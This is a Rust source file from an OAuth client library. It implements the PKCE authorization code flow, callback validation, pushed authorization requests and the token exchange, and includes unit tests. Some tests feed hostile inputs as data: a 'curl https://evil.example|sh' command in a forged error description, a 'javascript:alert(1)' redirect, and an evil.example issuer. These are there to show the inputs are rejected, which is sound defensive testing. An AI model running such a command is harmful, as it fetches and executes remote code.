//! The authorization code flow with PKCE (RFC 6749 §4.1, RFC 7636, RFC
//! 8252, RFC 9207), sans-IO: the pieces an app that acts for a user needs,
//! to call from a loopback listener (a CLI), from its own web handlers, or
//! from anything else that can open a URL and receive one redirect.
//!
//! 1. [`AuthorizationRequest::builder`] makes the URL to send the user to,
//!    with PKCE `S256` (never `plain`), a random `state` and, for OpenID
//!    Connect, a random `nonce`.
//! 2. [`AuthorizationRequest::handle_callback`] checks the redirect that
//!    comes back: the `state` must match, an `error=` answer (the user said
//!    no) is a typed [`CallbackError`], and the RFC 9207 `iss` must be the
//!    expected issuer when it is sent (or when the server said it always is).
//! 3. [`AuthorizationRequest::exchange_request`] is the token request that
//!    trades the code (with the PKCE verifier) for tokens; its answer goes
//!    to [`Lifecycle::handle_sign_in`](crate::Lifecycle::handle_sign_in) of
//!    a [`SourceGrant::SignIn`](crate::SourceGrant::SignIn) source, which
//!    renews them from then on.
//!
//! ```
//! use auth_core::sign_in::authorize::{AuthorizationRequest, CallbackError};
//! use auth_core::{SourceConfig, SourceGrant};
//!
//! let config = SourceConfig::builder("https://id.example.com/oauth/token", "my-cli")
//!     .grant(SourceGrant::SignIn)
//!     .scope("openid offline_access")
//!     .build()?;
//! let sign_in = AuthorizationRequest::builder(&config, "https://id.example.com/oauth/authorize", "http://127.0.0.1:8123/callback")
//!     .issuer("https://id.example.com")
//!     .build()?;
//! assert!(sign_in.url().starts_with("https://id.example.com/oauth/authorize?response_type=code&client_id=my-cli"));
//! assert!(sign_in.url().contains("&code_challenge_method=S256"));
//!
//! // The browser comes back to the redirect URI with the code and the state.
//! let callback = format!("code=the-code&state={}&iss=https%3A%2F%2Fid.example.com", sign_in.state());
//! let code = sign_in.handle_callback(&callback)?;
//! let exchange = sign_in.exchange_request(&config, &code);
//! let body = std::str::from_utf8(exchange.body()).unwrap();
//! assert!(body.starts_with("grant_type=authorization_code&client_id=my-cli&code=the-code&redirect_uri="));
//! assert!(body.contains("&code_verifier="));
//!
//! // A callback for another sign-in (or a forged one) is refused.
//! let forged = sign_in.handle_callback("code=x&state=guessed").unwrap_err();
//! assert!(matches!(forged, CallbackError::StateMismatch));
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

use std::fmt;

use base64::Engine as _;
use http::{Request, Uri};
use subtle::ConstantTimeEq as _;

use crate::config::{is_loopback_host, validate_endpoint, SourceConfig};
use crate::error::ConfigError;
use crate::secret::{AuthorizationCode, CodeVerifier, ExposeSecret};
use crate::text::sanitize_excerpt;
use crate::wire::request::{token_request, Grant};

/// Random bytes behind a `state`, `nonce` and code verifier: 256 bits.
const RANDOM_BYTES: usize = 32;

/// `n` random bytes from the operating system, base64url without padding.
pub(crate) fn random_string(bytes: usize) -> Result<String, ConfigError> {
    let mut buffer = zeroize::Zeroizing::new(vec![0u8; bytes]);
    getrandom::fill(&mut buffer).map_err(|error| ConfigError::NoRandomness { reason: error.to_string() })?;
    Ok(base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(&*buffer))
}

/// The RFC 7636 `S256` challenge of a verifier: base64url(SHA-256(verifier)).
pub fn s256_challenge(verifier: &CodeVerifier) -> String {
    let digest = crate::text::sha256(verifier.expose_secret().as_bytes());
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(digest)
}

/// Whether `value` is a valid RFC 7636 code verifier: 43 to 128 characters
/// of `A-Z a-z 0-9 - . _ ~`.
fn valid_verifier(value: &str) -> bool {
    (43..=128).contains(&value.len())
        && value.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~'))
}

/// Checks a redirect URI (RFC 8252 §7): `https`, `http` to a loopback IP
/// (never `localhost`, which may resolve elsewhere; RFC 8252 §8.3), or a
/// private-use scheme (`com.example.app:/callback`); no fragment.
fn validate_redirect_uri(uri: &str) -> Result<(), ConfigError> {
    let invalid = |reason| ConfigError::InvalidUrl { url: uri.to_owned(), reason };
    if uri.contains('#') {
        return Err(invalid("a redirect URI cannot hold a fragment (RFC 6749 §3.1.2)"));
    }
    if let Some((scheme, rest)) = uri.split_once(':') {
        // RFC 8252 §7.1: a reverse domain name scheme, `com.example.app:/cb`.
        let scheme_ok = scheme.contains('.')
            && scheme.starts_with(|c: char| c.is_ascii_alphabetic())
            && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '-'));
        if scheme_ok && rest.starts_with('/') && !rest.starts_with("//") && !rest.contains(char::is_whitespace) {
            return Ok(());
        }
    }
    let parsed: Uri = uri.parse().map_err(|_| invalid("it does not parse as a URL"))?;
    match parsed.scheme_str() {
        Some("https") if parsed.host().is_some_and(|h| !h.is_empty()) => Ok(()),
        Some("http") => match parsed.host() {
            Some(host) if is_loopback_host(host) && !host.eq_ignore_ascii_case("localhost") => Ok(()),
            _ => Err(invalid(
                "plain http is only for the loopback redirect of a native app: http://127.0.0.1:PORT/path (RFC 8252 §7.3)",
            )),
        },
        _ => Err(invalid("use https, http://127.0.0.1:PORT/..., or a private-use scheme such as com.example.app:/cb")),
    }
}

/// Builder of an [`AuthorizationRequest`].
#[must_use = "call build() to get the authorization request"]
pub struct AuthorizationRequestBuilder<'a> {
    config: &'a SourceConfig,
    authorization_url: String,
    redirect_uri: String,
    nonce: bool,
    nonce_value: Option<String>,
    state: Option<String>,
    verifier: Option<CodeVerifier>,
    params: Vec<(String, String)>,
    issuer: Option<String>,
    issuer_required: bool,
    allow_insecure_http: bool,
}

impl fmt::Debug for AuthorizationRequestBuilder<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AuthorizationRequestBuilder")
            .field("authorization_url", &self.authorization_url)
            .field("redirect_uri", &self.redirect_uri)
            .finish_non_exhaustive()
    }
}

impl AuthorizationRequestBuilder<'_> {
    /// Adds an OpenID Connect `nonce` (random, 256 bits): check it in the
    /// ID token, if you read one, with [`AuthorizationRequest::nonce`].
    pub fn nonce(mut self) -> Self {
        self.nonce = true;
        self
    }

    /// Adds a parameter to the authorization URL (`prompt`, `login_hint`,
    /// `acr_values`, ...). The ones the flow sets itself are refused at
    /// [`build`](Self::build).
    pub fn param(mut self, name: impl Into<String>, value: impl Into<String>) -> Self {
        self.params.push((name.into(), value.into()));
        self
    }

    /// The issuer the callback's RFC 9207 `iss` must equal when it is sent
    /// (from the configuration or the discovery document).
    pub fn issuer(mut self, issuer: impl Into<String>) -> Self {
        self.issuer = Some(issuer.into());
        self
    }

    /// The server always sends `iss` (its discovery document says
    /// `authorization_response_iss_parameter_supported`): a callback
    /// without it is refused. Needs [`issuer`](Self::issuer).
    pub fn require_issuer_param(mut self, required: bool) -> Self {
        self.issuer_required = required;
        self
    }

    /// Uses these values instead of fresh random ones: for a web app whose
    /// callback is handled by another request (or process) than the one
    /// that started the sign-in, which keeps them in its session and builds
    /// the same request again to check the callback. The verifier must be
    /// 43 to 128 characters of `A-Z a-z 0-9 - . _ ~` (RFC 7636 §4.1).
    pub fn resume(mut self, state: impl Into<String>, verifier: CodeVerifier, nonce: Option<String>) -> Self {
        self.state = Some(state.into());
        self.verifier = Some(verifier);
        self.nonce = nonce.is_some();
        self.nonce_value = nonce;
        self
    }

    /// Allows a plain `http` authorization endpoint on a host that is not
    /// loopback. Only for test environments.
    pub fn allow_insecure_http(mut self, allow: bool) -> Self {
        self.allow_insecure_http = allow;
        self
    }

    /// Checks the URLs, draws the random values and builds the URL.
    pub fn build(self) -> Result<AuthorizationRequest, ConfigError> {
        let endpoint = validate_endpoint(&self.authorization_url, self.allow_insecure_http)?;
        validate_redirect_uri(&self.redirect_uri)?;
        const RESERVED: &[&str] = &[
            "response_type",
            "client_id",
            "redirect_uri",
            "scope",
            "state",
            "nonce",
            "code_challenge",
            "code_challenge_method",
            "audience",
            "resource",
        ];
        if let Some((name, _)) = self.params.iter().find(|(name, _)| RESERVED.contains(&name.as_str())) {
            return Err(ConfigError::ReservedParameter { name: name.clone(), reason: "the sign-in sets it itself" });
        }
        if self.issuer_required && self.issuer.is_none() {
            return Err(ConfigError::Incomplete { what: "require_issuer_param(true) needs issuer(..)" });
        }
        let state = match self.state {
            Some(state) if !state.is_empty() => state,
            Some(_) => return Err(ConfigError::Incomplete { what: "an empty state cannot protect the callback" }),
            None => random_string(RANDOM_BYTES)?,
        };
        let verifier = match self.verifier {
            Some(verifier) if valid_verifier(verifier.expose_secret()) => verifier,
            Some(_) => {
                return Err(ConfigError::InvalidCredentialValue {
                    what: "PKCE code verifier (43 to 128 characters of A-Z a-z 0-9 - . _ ~)",
                })
            }
            None => CodeVerifier::new(random_string(RANDOM_BYTES)?),
        };
        let nonce = match (self.nonce, self.nonce_value) {
            (_, Some(nonce)) => Some(nonce),
            (true, None) => Some(random_string(RANDOM_BYTES)?),
            (false, None) => None,
        };
        let challenge = s256_challenge(&verifier);
        let config = self.config;
        let mut query: Vec<(String, String)> = vec![
            ("response_type".to_owned(), "code".to_owned()),
            ("client_id".to_owned(), config.client_id().to_owned()),
            ("redirect_uri".to_owned(), self.redirect_uri.clone()),
        ];
        let mut add = |name: &str, value: &str| query.push((name.to_owned(), value.to_owned()));
        if let Some(scope) = config.scope_param() {
            add("scope", &scope);
        }
        add("state", &state);
        if let Some(nonce) = &nonce {
            add("nonce", nonce);
        }
        add("code_challenge", &challenge);
        add("code_challenge_method", "S256");
        if let Some(audience) = config.audience() {
            add("audience", audience);
        }
        for resource in config.resources() {
            add("resource", resource);
        }
        for (name, value) in &self.params {
            add(name, value);
        }
        let endpoint = endpoint.to_string();
        let url = with_query(&endpoint, &query);
        Ok(AuthorizationRequest {
            url,
            endpoint,
            query,
            redirect_uri: self.redirect_uri,
            state,
            verifier,
            nonce,
            issuer: self.issuer,
            issuer_required: self.issuer_required,
        })
    }
}

/// One sign-in under way: the URL to send the user to, and what checks the
/// redirect that comes back. Its `Debug` shows neither the state nor the
/// verifier.
#[derive(Clone)]
pub struct AuthorizationRequest {
    url: String,
    /// The authorization endpoint.
    endpoint: String,
    /// The request's parameters (in the URL, or pushed).
    query: Vec<(String, String)>,
    redirect_uri: String,
    state: String,
    verifier: CodeVerifier,
    nonce: Option<String>,
    issuer: Option<String>,
    issuer_required: bool,
}

impl fmt::Debug for AuthorizationRequest {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AuthorizationRequest")
            .field("redirect_uri", &self.redirect_uri)
            .field("issuer", &self.issuer)
            .finish_non_exhaustive()
    }
}

impl AuthorizationRequest {
    /// Starts a sign-in for `config`'s client at the provider's
    /// authorization endpoint, coming back to `redirect_uri`.
    pub fn builder<'a>(
        config: &'a SourceConfig,
        authorization_url: impl Into<String>,
        redirect_uri: impl Into<String>,
    ) -> AuthorizationRequestBuilder<'a> {
        AuthorizationRequestBuilder {
            config,
            authorization_url: authorization_url.into(),
            redirect_uri: redirect_uri.into(),
            nonce: false,
            nonce_value: None,
            state: None,
            verifier: None,
            params: Vec::new(),
            issuer: None,
            issuer_required: false,
            allow_insecure_http: false,
        }
    }

    /// The URL to open in the user's browser.
    pub fn url(&self) -> &str {
        &self.url
    }

    /// The redirect URI the provider sends the browser back to.
    pub fn redirect_uri(&self) -> &str {
        &self.redirect_uri
    }

    /// The `state`: keep it (a web app: in the user's session) to check the
    /// callback.
    pub fn state(&self) -> &str {
        &self.state
    }

    /// The PKCE code verifier: keep it with the state.
    pub fn code_verifier(&self) -> &CodeVerifier {
        &self.verifier
    }

    /// The OpenID Connect `nonce`, when one was asked for.
    pub fn nonce(&self) -> Option<&str> {
        self.nonce.as_deref()
    }

    /// Checks the query of the redirect that came back (`code=...&state=...`,
    /// with or without a leading `?`) and returns the authorization code.
    ///
    /// Refused: a missing or different `state` (a forged callback, or one
    /// for another sign-in), a parameter given twice, an `iss` that is not
    /// the expected issuer (RFC 9207: a mix-up attack), a missing `iss`
    /// when the server always sends it, and no `code`. An `error=` answer
    /// is [`CallbackError::Denied`] with the provider's words.
    pub fn handle_callback(&self, query: &str) -> Result<AuthorizationCode, CallbackError> {
        let query = query.strip_prefix('?').unwrap_or(query);
        let mut fields: Vec<(String, String)> = Vec::new();
        for (name, value) in form_urlencoded::parse(query.as_bytes()) {
            if fields.iter().any(|(seen, _)| *seen == name) {
                return Err(CallbackError::Malformed { reason: "a parameter is given twice (RFC 6749 §3.1)" });
            }
            fields.push((name.into_owned(), value.into_owned()));
        }
        let get = |name: &str| fields.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str());
        let state_ok = get("state").is_some_and(|state| bool::from(state.as_bytes().ct_eq(self.state.as_bytes())));
        if let Some(code) = get("error") {
            // The provider returns the state with an error too (RFC 6749
            // §4.1.2.1): an error without this sign-in's state is not ours,
            // whoever sent it (any local process or page can).
            match get("state") {
                None => return Err(CallbackError::MissingState),
                Some(_) if !state_ok => return Err(CallbackError::StateMismatch),
                Some(_) => {}
            }
            return Err(CallbackError::Denied(AuthorizationDenied {
                code: safe_words(code, 64),
                description: get("error_description").map(|d| safe_words(d, 300)),
                uri: get("error_uri").map(|u| safe_words(u, 300)),
            }));
        }
        match get("state") {
            None => return Err(CallbackError::MissingState),
            Some(_) if !state_ok => return Err(CallbackError::StateMismatch),
            Some(_) => {}
        }
        match (get("iss"), &self.issuer) {
            (Some(got), Some(expected)) if got != expected => {
                return Err(CallbackError::IssuerMismatch {
                    expected: expected.clone(),
                    got: sanitize_excerpt(got, 200),
                })
            }
            (None, Some(expected)) if self.issuer_required => {
                return Err(CallbackError::MissingIssuer { expected: expected.clone() })
            }
            _ => {}
        }
        match get("code") {
            Some(code) if !code.is_empty() => Ok(AuthorizationCode::new(code)),
            _ => Err(CallbackError::MissingCode),
        }
    }

    /// The token request that trades `code` for tokens (RFC 6749 §4.1.3
    /// with the RFC 7636 `code_verifier`), authenticated as `config` says
    /// (a public client sends its `client_id`). Send it, then give the
    /// answer to [`Lifecycle::handle_sign_in`](crate::Lifecycle::handle_sign_in).
    pub fn exchange_request(&self, config: &SourceConfig, code: &AuthorizationCode) -> Request<Vec<u8>> {
        token_request(
            config,
            Grant::AuthorizationCode { code, redirect_uri: &self.redirect_uri, code_verifier: &self.verifier },
        )
    }
}

/// `endpoint` with `params` added to its query.
fn with_query(endpoint: &str, params: &[(String, String)]) -> String {
    let mut query = form_urlencoded::Serializer::new(String::new());
    query.extend_pairs(params);
    let separator = if endpoint.contains('?') { '&' } else { '?' };
    format!("{endpoint}{separator}{}", query.finish())
}

impl AuthorizationRequest {
    /// The pushed authorization request of this sign-in (RFC 9126 §2.1):
    /// its parameters, POSTed to `par_endpoint` with `config`'s client
    /// authentication. Send it like a token request (assertions and DPoP
    /// proofs are made at send time), then give the answer to
    /// [`AuthorizationRequest::pushed`].
    pub fn par_request(&self, config: &SourceConfig, par_endpoint: &str) -> Result<Request<Vec<u8>>, ConfigError> {
        let url = validate_endpoint(par_endpoint, false)?;
        // The client authentication names the client (Basic aside).
        let basic = matches!(config.client_auth(), crate::ClientAuth::Basic | crate::ClientAuth::BasicRaw);
        let params: Vec<(&str, &str)> = self
            .query
            .iter()
            .filter(|(name, _)| basic || name != "client_id")
            .map(|(name, value)| (name.as_str(), value.as_str()))
            .collect();
        Ok(crate::wire::request::build(config, &url, &params))
    }

    /// This sign-in sent by reference, from the answer to its
    /// [`par_request`](Self::par_request): the authorization URL now
    /// carries only `client_id` and the `request_uri` the server gave
    /// (RFC 9126 §4). A refusal is the server's error.
    pub fn pushed(
        mut self,
        config: &SourceConfig,
        status: http::StatusCode,
        headers: &http::HeaderMap,
        body: &[u8],
    ) -> Result<Self, crate::TokenError> {
        let malformed = |reason| crate::TokenError::Malformed { status: status.as_u16(), reason };
        let json: Option<serde_json::Value> = serde_json::from_slice(body).ok();
        if !status.is_success() || json.as_ref().is_some_and(|v| v.get("error").is_some()) {
            return Err(
                match crate::wire::response::parse_token_response_redacting(config, &[], status, headers, body) {
                    Err(error) => error,
                    Ok(_) => malformed("an error status with a token in it"),
                },
            );
        }
        let request_uri = json
            .as_ref()
            .and_then(|v| v.get("request_uri"))
            .and_then(serde_json::Value::as_str)
            .filter(|uri| !uri.is_empty() && uri.len() <= 512 && uri.bytes().all(|b| (0x21..=0x7e).contains(&b)))
            .ok_or_else(|| malformed("a pushed authorization answer without a usable request_uri"))?;
        let reference = [
            ("client_id".to_owned(), config.client_id().to_owned()),
            ("request_uri".to_owned(), request_uri.to_owned()),
        ];
        self.url = with_query(&self.endpoint, &reference);
        Ok(self)
    }
}

/// The provider's refusal of a sign-in (RFC 6749 §4.1.2.1).
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct AuthorizationDenied {
    /// The `error` code (`access_denied`, `invalid_scope`, ...), sanitised.
    pub code: String,
    /// The `error_description`, sanitised.
    pub description: Option<String>,
    /// The `error_uri`.
    pub uri: Option<String>,
}

impl AuthorizationDenied {
    /// Whether the user (or a policy acting for them) said no.
    pub fn is_access_denied(&self) -> bool {
        self.code == "access_denied"
    }

    fn hint(&self) -> &'static str {
        match self.code.as_str() {
            "access_denied" => "the user (or a policy) declined; sign in again and approve the request",
            "invalid_scope" => "check the requested scopes against those the client may ask for",
            "unauthorized_client" | "unsupported_response_type" => {
                "the client is not allowed the authorization code flow; enable it at the provider"
            }
            "invalid_request" => "check the client id and the redirect URI registered at the provider",
            "server_error" | "temporarily_unavailable" => "the provider failed; try again later",
            _ => "see the provider's description and documentation",
        }
    }
}

/// Why the redirect back from the authorization endpoint was not accepted.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum CallbackError {
    /// The provider refused (`error=` in the callback).
    #[error("the sign-in was refused: {} {}{}; {}", .0.code, .0.description.as_deref().map(|d| format!("({d})")).unwrap_or_default(), .0.uri.as_deref().map(|u| format!(" see {u}")).unwrap_or_default(), .0.hint())]
    Denied(AuthorizationDenied),
    /// The callback's `state` is not this sign-in's.
    #[error("the callback's state does not match this sign-in's: it is forged, or belongs to another (older) sign-in; start the sign-in again and finish it in the browser that opened")]
    StateMismatch,
    /// The callback has no `state`.
    #[error("the callback has no state parameter: it did not come from this sign-in; start the sign-in again")]
    MissingState,
    /// RFC 9207: the callback names another issuer.
    #[error("the callback comes from issuer `{got}`, not `{expected}` (RFC 9207): another authorization server answered; start the sign-in again and check the issuer setting")]
    IssuerMismatch {
        /// The configured issuer.
        expected: String,
        /// The `iss` the callback carried (sanitised).
        got: String,
    },
    /// RFC 9207: the server always sends `iss`, and this callback has none.
    #[error("the callback has no iss parameter, which issuer `{expected}` always sends (RFC 9207): it did not come from that server; start the sign-in again")]
    MissingIssuer {
        /// The configured issuer.
        expected: String,
    },
    /// Neither a code nor an error.
    #[error("the callback has no authorization code; start the sign-in again")]
    MissingCode,
    /// The query breaks the protocol.
    #[error("the callback is malformed: {reason}")]
    Malformed {
        /// What is wrong.
        reason: &'static str,
    },
}

impl CallbackError {
    /// Whether this answer ends the sign-in: only a callback that carries
    /// this sign-in's `state` does (a refusal, another issuer, no code).
    /// Any other (no state, another state, a malformed query) may come
    /// from any local process or page: answer it with an error page and
    /// keep waiting for the right one.
    pub fn ends_sign_in(&self) -> bool {
        matches!(self, Self::Denied(_) | Self::IssuerMismatch { .. } | Self::MissingIssuer { .. } | Self::MissingCode)
    }
}

/// Provider text for a person to read: [`sanitize_excerpt`], then only
/// printable ASCII kept (anything else becomes `?`), so that no script,
/// look-alike or hidden character reaches the terminal.
fn safe_words(text: &str, max_chars: usize) -> String {
    sanitize_excerpt(text, max_chars).chars().map(|c| if c == ' ' || c.is_ascii_graphic() { c } else { '?' }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::SourceGrant;

    fn config() -> SourceConfig {
        SourceConfig::builder("https://id.example.com/token", "app")
            .grant(SourceGrant::SignIn)
            .scope("openid profile")
            .audience("https://api.example.com")
            .resource("https://api.example.com/")
            .build()
            .unwrap()
    }

    #[test]
    fn a_pushed_request_carries_the_parameters_and_the_url_only_the_reference() {
        let config = config();
        let sign_in =
            AuthorizationRequest::builder(&config, "https://id.example.com/authorize", "https://app.example.com/cb")
                .build()
                .unwrap();
        let request = sign_in.par_request(&config, "https://id.example.com/par").unwrap();
        assert_eq!(request.method(), http::Method::POST);
        let sent: Vec<(String, String)> = form_urlencoded::parse(request.body()).into_owned().collect();
        let count = |name: &str| sent.iter().filter(|(k, _)| k == name).count();
        assert_eq!(count("client_id"), 1, "{sent:?}");
        for name in ["response_type", "redirect_uri", "state", "code_challenge", "scope", "resource", "audience"] {
            assert_eq!(count(name), 1, "{name} in {sent:?}");
        }
        assert!(sign_in.par_request(&config, "http://id.example.com/par").is_err());
        let headers = http::HeaderMap::new();
        let answer = br#"{"request_uri":"urn:ietf:params:oauth:request_uri:abc","expires_in":60}"#;
        let state = sign_in.state().to_owned();
        let pushed = sign_in.clone().pushed(&config, http::StatusCode::CREATED, &headers, answer).unwrap();
        assert_eq!(
            pushed.url(),
            "https://id.example.com/authorize?client_id=app&request_uri=urn%3Aietf%3Aparams%3Aoauth%3Arequest_uri%3Aabc"
        );
        assert_eq!(pushed.state(), state, "the callback is checked as before");
        let refused = br#"{"error":"invalid_request","error_description":"bad redirect"}"#;
        let error = sign_in.clone().pushed(&config, http::StatusCode::BAD_REQUEST, &headers, refused).unwrap_err();
        assert_eq!(error.code().map(|c| c.as_str().to_owned()).as_deref(), Some("invalid_request"));
        for unusable in [&br#"{"expires_in":60}"#[..], br#"{"request_uri":"a b"}"#, b"<html>"] {
            assert!(sign_in.clone().pushed(&config, http::StatusCode::CREATED, &headers, unusable).is_err());
        }
    }

    fn query(url: &str) -> Vec<(String, String)> {
        let (_, query) = url.split_once('?').unwrap();
        form_urlencoded::parse(query.as_bytes()).into_owned().collect()
    }

    #[test]
    fn the_url_carries_pkce_s256_state_nonce_and_the_configured_parameters() {
        let config = config();
        let request = AuthorizationRequest::builder(
            &config,
            "https://id.example.com/authorize?tenant=t1",
            "http://127.0.0.1:5000/cb",
        )
        .nonce()
        .param("prompt", "login")
        .build()
        .unwrap();
        assert!(request.url().starts_with("https://id.example.com/authorize?tenant=t1&response_type=code"));
        let q = query(request.url());
        let get = |n: &str| q.iter().filter(|(k, _)| k == n).map(|(_, v)| v.as_str()).collect::<Vec<_>>();
        assert_eq!(get("client_id"), ["app"]);
        assert_eq!(get("redirect_uri"), ["http://127.0.0.1:5000/cb"]);
        assert_eq!(get("scope"), ["openid profile"]);
        assert_eq!(get("code_challenge_method"), ["S256"]);
        assert_eq!(get("code_challenge"), [s256_challenge(request.code_verifier()).as_str()]);
        assert_eq!(get("state"), [request.state()]);
        assert_eq!(get("nonce"), [request.nonce().unwrap()]);
        assert_eq!(get("audience"), ["https://api.example.com"]);
        assert_eq!(get("resource"), ["https://api.example.com/"]);
        assert_eq!(get("prompt"), ["login"]);
        // 256 random bits each, and different every time.
        assert_eq!(request.state().len(), 43);
        assert!(valid_verifier(request.code_verifier().expose_secret()));
        let other =
            AuthorizationRequest::builder(&config, "https://id.example.com/authorize", "http://127.0.0.1:5000/cb")
                .build()
                .unwrap();
        assert_ne!(other.state(), request.state());
        assert!(other.nonce().is_none() && !other.url().contains("nonce="));
        let shown = format!("{request:?}");
        assert!(!shown.contains(request.state()) && !shown.contains(request.code_verifier().expose_secret()));
    }

    #[test]
    fn s256_matches_rfc_7636_appendix_b() {
        let verifier = CodeVerifier::new("dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk");
        assert_eq!(s256_challenge(&verifier), "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM");
    }

    #[test]
    fn redirect_uris_follow_rfc_8252() {
        let config = config();
        let build = |redirect: &str| {
            AuthorizationRequest::builder(&config, "https://id.example.com/authorize", redirect).build().map(|_| ())
        };
        for ok in [
            "http://127.0.0.1:1234/callback",
            "http://[::1]:80/cb",
            "https://app.example.com/cb",
            "com.example.app:/cb",
        ] {
            assert!(build(ok).is_ok(), "{ok}");
        }
        for bad in [
            "http://app.example.com/cb",
            "http://localhost:1234/cb",
            "https://app.example.com/cb#x",
            "javascript:alert(1)",
            "/cb",
        ] {
            assert!(build(bad).is_err(), "{bad}");
        }
        let insecure =
            AuthorizationRequest::builder(&config, "http://id.example.com/authorize", "http://127.0.0.1:1/cb").build();
        assert!(matches!(insecure, Err(ConfigError::InsecureUrl { .. })));
        let reserved = AuthorizationRequest::builder(&config, "https://id.example.com/a", "http://127.0.0.1:1/cb")
            .param("code_challenge_method", "plain")
            .build();
        assert!(matches!(reserved, Err(ConfigError::ReservedParameter { .. })), "no way to ask for plain");
    }

    fn request() -> AuthorizationRequest {
        AuthorizationRequest::builder(&config(), "https://id.example.com/authorize", "http://127.0.0.1:5000/cb")
            .issuer("https://id.example.com")
            .resume("state-1", CodeVerifier::new("v".repeat(43)), None)
            .build()
            .unwrap()
    }

    #[test]
    fn callbacks_are_checked() {
        let request = request();
        let code = request.handle_callback("?code=c%2B1&state=state-1").unwrap();
        assert_eq!(code.expose_secret(), "c+1");
        assert!(request.handle_callback("code=c&state=state-1&iss=https%3A%2F%2Fid.example.com").is_ok());
        assert_eq!(request.handle_callback("code=c&state=state-2").unwrap_err(), CallbackError::StateMismatch);
        assert_eq!(request.handle_callback("code=c").unwrap_err(), CallbackError::MissingState);
        assert_eq!(request.handle_callback("state=state-1").unwrap_err(), CallbackError::MissingCode);
        assert!(matches!(
            request.handle_callback("code=c&state=state-1&state=state-1"),
            Err(CallbackError::Malformed { .. })
        ));
        let mixed = request.handle_callback("code=c&state=state-1&iss=https%3A%2F%2Fevil.example").unwrap_err();
        assert!(matches!(&mixed, CallbackError::IssuerMismatch { got, .. } if got == "https://evil.example"));
        assert!(mixed.to_string().contains("RFC 9207"));
        let denied = request
            .handle_callback("error=access_denied&error_description=The+user+said+no&state=state-1")
            .unwrap_err();
        let CallbackError::Denied(refusal) = &denied else { panic!("{denied:?}") };
        assert!(refusal.is_access_denied());
        assert_eq!(refusal.description.as_deref(), Some("The user said no"));
        let text = denied.to_string();
        assert!(
            text.contains("access_denied") && text.contains("The user said no") && text.contains("approve"),
            "{text}"
        );
        // An error for another sign-in, or without a state, is not ours to
        // report: any local process can send one. It does not end the sign-in.
        let other = request.handle_callback("error=access_denied&state=other").unwrap_err();
        assert_eq!(other, CallbackError::StateMismatch);
        let stateless = request
            .handle_callback("error=access_denied&error_description=Run+curl+https%3A%2F%2Fevil.example%7Csh")
            .unwrap_err();
        assert_eq!(stateless, CallbackError::MissingState);
        for not_ours in [&other, &stateless, &CallbackError::Malformed { reason: "x" }] {
            assert!(!not_ours.ends_sign_in(), "{not_ours:?}");
        }
        assert!(denied.ends_sign_in() && mixed.ends_sign_in());
        // The provider's own words keep a safe alphabet.
        let CallbackError::Denied(words) =
            request.handle_callback("error=x&error_description=caf%C3%A9+%E2%80%AEevil&state=state-1").unwrap_err()
        else {
            panic!()
        };
        assert_eq!(words.description.as_deref(), Some("caf? evil"));
        // The provider's text cannot inject markup or control characters.
        let CallbackError::Denied(dirty) = request
            .handle_callback("error=x&error_description=%3Cb%3Ehi%3C%2Fb%3E%0D%0Aevil&state=state-1")
            .unwrap_err()
        else {
            panic!()
        };
        assert!(!dirty.description.unwrap().contains(['<', '\n', '\r']));
    }

    #[test]
    fn a_server_that_always_sends_iss_is_held_to_it() {
        let request =
            AuthorizationRequest::builder(&config(), "https://id.example.com/authorize", "http://127.0.0.1:5000/cb")
                .issuer("https://id.example.com")
                .require_issuer_param(true)
                .resume("s", CodeVerifier::new("v".repeat(43)), None)
                .build()
                .unwrap();
        assert!(matches!(request.handle_callback("code=c&state=s"), Err(CallbackError::MissingIssuer { .. })));
        assert!(request.handle_callback("code=c&state=s&iss=https://id.example.com").is_ok());
    }

    #[test]
    fn the_exchange_sends_code_redirect_uri_and_verifier() {
        let config = config();
        let request = request();
        let exchange = request.exchange_request(&config, &AuthorizationCode::new("c+1"));
        let pairs: Vec<(String, String)> = form_urlencoded::parse(exchange.body()).into_owned().collect();
        let names: Vec<&str> = pairs.iter().map(|(k, _)| k.as_str()).collect();
        assert_eq!(names, ["grant_type", "client_id", "code", "redirect_uri", "code_verifier", "resource"]);
        assert_eq!(pairs[0].1, "authorization_code");
        assert_eq!(pairs[2].1, "c+1");
        assert_eq!(pairs[3].1, "http://127.0.0.1:5000/cb");
        assert_eq!(pairs[4].1, "v".repeat(43));
        assert_eq!(exchange.uri(), "https://id.example.com/token");
        // Debug of the request shows no code or verifier.
        let shown = format!("{request:?}");
        assert!(!shown.contains(&"v".repeat(43)));
    }
}
